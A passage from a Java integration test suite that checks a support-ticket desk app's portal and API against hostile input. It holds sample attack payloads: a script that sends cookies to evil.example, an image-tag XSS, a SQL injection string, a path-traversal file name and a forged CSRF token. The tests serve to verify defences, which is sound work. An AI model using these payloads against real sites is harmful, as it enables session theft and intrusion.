                                + "\"emergencyCriteria\":[\"SIGNIFICANT_FINANCIAL_LOSS\"]",
                        201));
    }

    @Test
    void fieldsTheDeskSetsItselfCannotBeSmuggledIn() {
        var created = http.post(
                ACME,
                TICKETS,
                VALID.replace(
                        "}",
                        ",\"key\":\"CS-1\",\"id\":1,\"status\":\"CLOSED\","
                                + "\"team\":\"ad-quality\",\"submittedBy\":\"spoc-globex\",\"acknowledgeBy\":\"2099-01-01T00:00:00Z\"}"));

        assertThat(created.status()).as(created.body()).isEqualTo(201);
        var ticket = created.json();
        assertThat(ticket.path("key").asText()).isNotEqualTo("CS-1");
        assertThat(ticket.path("status").asText()).isEqualTo("NEW");
        assertThat(ticket.path("team").asText()).isEqualTo("client-services");
        assertThat(ticket.path("submittedBy").asText()).isEqualTo(ACME);
        assertThat(ticket.path("acknowledgeBy").asText()).doesNotStartWith("2099");
    }

    @Test
    void aMemberIdWrittenAsTextIsReadAsThatNumber() {
        var created = http.post(ACME, TICKETS, VALID.replace("1001", "\"1001\""));

        assertThat(created.status()).as(created.body()).isEqualTo(201);
        assertThat(created.json().path("memberId").asLong()).isEqualTo(1001);
    }

    @Test
    void aFileNameWithMarkupIsKeptAsTypedAndShownEscaped() throws Exception {
        var key = submit();
        var name = "<img src=x onerror=alert(1)>.png";

        var uploaded = send(api(ACME, "POST", TICKETS + "/" + key + "/attachments", file(name, PNG)));

        assertThat(uploaded.status()).as(uploaded.body()).isEqualTo(201);
        assertThat(http.get(AGENT, TICKETS + "/" + key + "/attachments")
                        .json()
                        .get(0)
                        .path("fileName")
                        .asText())
                .isEqualTo(name);
        var portal = browser(ACME).get("/portal/tickets/" + key);
        assertThat(portal.body())
                .contains("&lt;img src=x onerror=alert(1)&gt;.png")
                .doesNotContain(name);
    }

    @Test
    void aReplyWithMarkupIsKeptAsTypedInTheHistory() {
        var key = waitingOnCustomer();
        var answer = "<script>document.location='https://evil.example/?'+document.cookie</script>";

        var reply = http.post(ACME, TICKETS + "/" + key + "/replies", "{\"message\":" + quote(answer) + "}");

        assertThat(reply.status()).as(reply.body()).isEqualTo(200);
        var escaped = quote(answer);
        assertThat(http.get(AUDITOR, TICKETS + "/" + key + "/history").body())
                .contains(escaped.substring(1, escaped.length() - 1));
        assertThat(browser(ACME).get("/portal/tickets/" + key).body())
                .doesNotContain(answer)
                .contains("&lt;script&gt;document.location=");
    }

    @Test
    void sqlInSearchesIsSearchedForAsText() {
        var audit = browser(AUDITOR).get("/audit?q=%27%20OR%201%3D1%20--");
        assertThat(audit.status()).isEqualTo(200);
        assertThat(audit.body()).doesNotContain(fixtures.fresh()).doesNotContain(fixtures.closed());

        var engine = http.get(AGENT, "/engine-rest/task?processInstanceBusinessKey=%27%20OR%201%3D1%20--");
        assertThat(engine.status()).isEqualTo(200);
        assertThat(engine.json()).isEmpty();
    }

    // ---------------------------------------------------------------------------------------------
    // The portal answers a refused form on the page itself (the browser stays on it): still nothing stored.
    // ---------------------------------------------------------------------------------------------

    static Stream<Arguments> portalRefusalsOnThePage() {
        return Stream.of(
                Arguments.of(
                        "reply to a ticket closed past its reopen window",
                        "/portal/tickets/{closed}/replies",
                        form("message", "Firefox"),
                        "can no longer be reopened"),
                Arguments.of(
                        "attachment named ../../etc/passwd",
                        "/portal/tickets/{new}/attachments",
                        file("../../etc/passwd", PNG),
                        "has a file name that is not a plain name"),
                Arguments.of(
                        "new request with a NUL character in the subject",
                        "/portal/new",
                        form(
                                "memberId",
                                "1001",
                                "requestType",
                                "AD_SERVING",
                                "subject",
                                "Blank\u0000placements",
                                "description",
                                "d",
                                "impact",
                                "i"),
                        "id=\"error-subject\">contains a NUL character"),
                Arguments.of(
                        "new request with 51 object ids",
                        "/portal/new",
                        form(
                                "memberId",
                                "1001",
                                "requestType",
                                "AD_SERVING",
                                "subject",
                                "s",
                                "description",
                                "d",
                                "impact",
                                "i",
                                "objectIds",
                                IntStream.range(0, 51)
                                        .mapToObj(i -> "placement:" + i)
                                        .collect(Collectors.joining("\n"))),
                        "id=\"error-objectIds\">has 51 entries"));
    }

    @ParameterizedTest(name = "[{index}] portal: {0}")
    @MethodSource("portalRefusalsOnThePage")
    void portalShowsTheRefusalOnThePageAndStoresNothing(String name, String path, Body body, String message) {
        var before = state();
        var browser = browser(ACME);

        var response = browser.send("POST", resolve(path) + "?_csrf=" + browser.csrf(), body);

        assertThat(response.status()).as(response.body()).isIn(200, 302);
        var page = response.status() == 302
                ? browser.get(response.location().replace("http://localhost:" + http.port(), ""))
                : response;
        assertThat(page.body()).contains(message);
        assertThat(state()).as("nothing recorded, created or changed").isEqualTo(before);
    }

    // ---------------------------------------------------------------------------------------------
    // How a case is sent and judged
    // ---------------------------------------------------------------------------------------------

    enum Via {
        BASIC,
        AUTHORIZATION_HEADER,
        BROWSER,
        BROWSER_WITHOUT_CSRF,
        BROWSER_FORGED_CSRF
    }

    record Body(String contentType, byte[] bytes) {}

    /** One HTTP call: as a user over Basic, with a raw Authorization header, or from a signed-in browser. */
    record Call(String user, Via via, String method, String path, Body body) {

        @Override
        public String toString() {
            return method + " " + (path.length() > 80 ? path.substring(0, 80) + "…" : path)
                    + (user == null ? "" : " as " + user);
        }
    }

    private static Arguments refused(String name, int status, String field, Call call) {
        return Arguments.of(name, status, field, call);
    }

    private static Call api(String user, String method, String path, Body body) {
        return new Call(user, Via.BASIC, method, path, body);
    }

    private static Call withAuthorization(String header, String method, String path, Body body) {
        return new Call(header, Via.AUTHORIZATION_HEADER, method, path, body);
    }

    private static Call page(String user, Via via, String method, String path, Body body) {
        return new Call(user, via, method, path, body);
    }

    private static Body json(String text) {
        return text("application/json", text);
    }

    private static Body text(String contentType, String text) {
        return new Body(contentType, bytes(text));
    }

    private static Body form(String... pairs) {
        var fields = new ArrayList<String>();
        for (int i = 0; i < pairs.length; i += 2) {
            fields.add(URLEncoder.encode(pairs[i], StandardCharsets.UTF_8) + "="
                    + URLEncoder.encode(pairs[i + 1], StandardCharsets.UTF_8));
        }
        return text("application/x-www-form-urlencoded", String.join("&", fields));
    }

    private static final String BOUNDARY = "----hostile-input";

    private static Body file(String fileName, byte[] content) {
        return new Body("multipart/form-data; boundary=" + BOUNDARY, multipart("file", fileName, content));
    }

    private static byte[] multipart(String part, String fileName, byte[] content) {
        var body = new ByteArrayOutputStream();
        body.writeBytes(bytes("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + part + "\"; filename=\""
                + fileName.replace("\\", "\\\\") + "\"\r\nContent-Type: application/octet-stream\r\n\r\n"));
        body.writeBytes(content);
        body.writeBytes(bytes("\r\n--" + BOUNDARY + "--\r\n"));
        return body.toByteArray();
    }

    private static String list(int size, IntFunction<String> item) {
        return IntStream.range(0, size)
                .mapToObj(item)
                .map(HostileInputTest::quote)
                .collect(Collectors.joining(",", "[", "]"));
    }

    private static String basic(String user, String password) {
        return DeskHttpClient.basic(user, password);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String quote(String text) {
        try {
            return JSON.writeValueAsString(text);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private Response send(Call call) {
        var path = resolve(call.path());
        var body = call.body();
        if (body != null && "application/json".equals(body.contentType())) {
            var text = new String(body.bytes(), StandardCharsets.UTF_8);
            body = text.equals(resolve(text)) ? body : json(resolve(text));
        }
        return switch (call.via()) {
            case BASIC -> send(call.method(), path, body, call.user() == null ? null : basic(call.user(), "demo"));
            case AUTHORIZATION_HEADER -> send(call.method(), path, body, call.user());
            case BROWSER -> {
                var browser = browser(call.user());
                yield browser.send(
                        call.method(),
                        "GET".equals(call.method()) ? path : withParameter(path, "_csrf", browser.csrf()),
                        body);
            }
            case BROWSER_WITHOUT_CSRF -> browser(call.user()).send(call.method(), path, body);
            case BROWSER_FORGED_CSRF ->
                browser(call.user()).send(call.method(), withParameter(path, "_csrf", "forged-token"), body);
        };
    }

    private Response send(String method, String path, Body body, String authorization) {
        var request = HttpRequest.newBuilder(http.uri(path)).timeout(Duration.ofMinutes(1));
        if (authorization != null) {
            request.header("Authorization", authorization);
        }
        return exchange(client, request, method, body);
    }

    private static Response exchange(HttpClient client, HttpRequest.Builder request, String method, Body body) {
        if (body != null && body.contentType() != null) {
            request.header("Content-Type", body.contentType());
        }
        request.method(
                method,
                body == null
                        ? HttpRequest.BodyPublishers.noBody()
                        : HttpRequest.BodyPublishers.ofByteArray(body.bytes()));
        return Response.of(DeskHttpClient.exchange(client, request));
    }

    private static String withParameter(String path, String name, String value) {
        return path + (path.contains("?") ? "&" : "?") + name + "=" + URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private String resolve(String path) {
        return path.replace("{new}", fixtures.fresh())
                .replace("{waiting}", fixtures.waiting())
                .replace("{closed}", fixtures.closed())
                .replace("{engineering}", fixtures.engineering())
                .replace("{task}", fixtures.task());
    }

    /** Under /api a problem+json naming the field; from the engine its JSON message; a page any readable text. */
    private static void assertClearMessage(String name, Call call, Response response, String field) {
        try {
            assertMessage(call, response, field);
        } catch (AssertionError e) {
            throw new AssertionError(name + ": " + e.getMessage(), e);
        }
    }

    private static void assertMessage(Call call, Response response, String field) {
        assertThat(response.body()).as("a message for the caller").isNotBlank();
        if (call.path().startsWith("/api/") || response.contentType().startsWith("application/problem+json")) {
            assertThat(response.contentType()).as(response.body()).startsWith("application/problem+json");
            var problem = parse(response.body());
            assertThat(problem.path("status").asInt()).isEqualTo(response.status());
            var fields = StreamSupport.stream(problem.path("errors").spliterator(), false)
                    .map(error -> error.path("field").asText())
                    .toList();
            assertThat(problem.path("detail").asText().isBlank() && fields.isEmpty())
                    .as("a detail or errors: " + response.body())
                    .isFalse();
            if (field != null) {
                assertThat(fields).as(response.body()).contains(field);
                problem.path("errors")
                        .forEach(error ->
                                assertThat(error.path("message").asText()).isNotBlank());
            }
        } else if (call.path().startsWith("/engine-rest/")) {
            assertThat(response.contentType()).startsWith("application/json");
            assertThat(parse(response.body()).path("message").asText())
                    .as(response.body())
                    .isNotBlank();
        }
    }

    private static JsonNode parse(String text) {
        try {
            return JSON.readTree(text);
        } catch (IOException e) {
            throw new AssertionError("not JSON: " + text, e);
        }
    }

    private DeskState state() {
        return desk.now();
    }

    private long count(String table) {
        return jdbc.sql("select count(*) from " + table).query(Long.class).single();
    }

    // ---------------------------------------------------------------------------------------------
    // Tickets in the states the cases need, moved on by the agent over the engine REST API
    // ---------------------------------------------------------------------------------------------

    record Fixtures(int port, String fresh, String task, String waiting, String closed, String engineering) {}

    private String submit() {
        return Tickets.submit(http, ACME, VALID);
    }

    private String waitingOnCustomer() {
        return Tickets.waitingOnCustomer(http, submit(), "Which browser shows the blanks?");
    }

    private String closed() {
        return scenario.reopenWindowOver(Tickets.closed(http, submit(), "Creative re-approved"));
    }

    private String waitingOnEngineering(String bug) {
        return Tickets.waitingOnEngineering(http, submit(), bug);
    }

    private String taskOf(String key, String taskDefinitionKey) {
        return scenario.task(key, taskDefinitionKey).getId();
    }

    // ---------------------------------------------------------------------------------------------
    // A browser signed in to the desk's pages, with its session cookie and CSRF token
    // ---------------------------------------------------------------------------------------------

    private Browser browser(String user) {
        return BROWSERS.computeIfAbsent(user, Browser::new);
    }

    private final class Browser {

        private final HttpClient session = HttpClient.newBuilder()
                .cookieHandler(new CookieManager())
                .connectTimeout(Duration.ofSeconds(10))
                .build();
        private final String csrf;

        Browser(String user) {
            var login = get("/login");
            var signedIn = send(
                    "POST",
                    "/login",
                    form("username", user, "password", "demo", "_csrf", DeskHttpClient.csrfToken(login.body())));
            assertThat(signedIn.status()).isEqualTo(302);
            assertThat(signedIn.location()).doesNotContain("error");
            csrf = user.startsWith("spoc-")
                    ? DeskHttpClient.csrfToken(get("/portal/new").body())
                    : null;
        }

        String csrf() {
            return csrf;
        }

        Response get(String path) {
            return send("GET", path, null);
        }

        Response send(String method, String path, Body body) {
            return exchange(
                    session, HttpRequest.newBuilder(http.uri(path)).timeout(Duration.ofMinutes(1)), method, body);
        }
    }
}
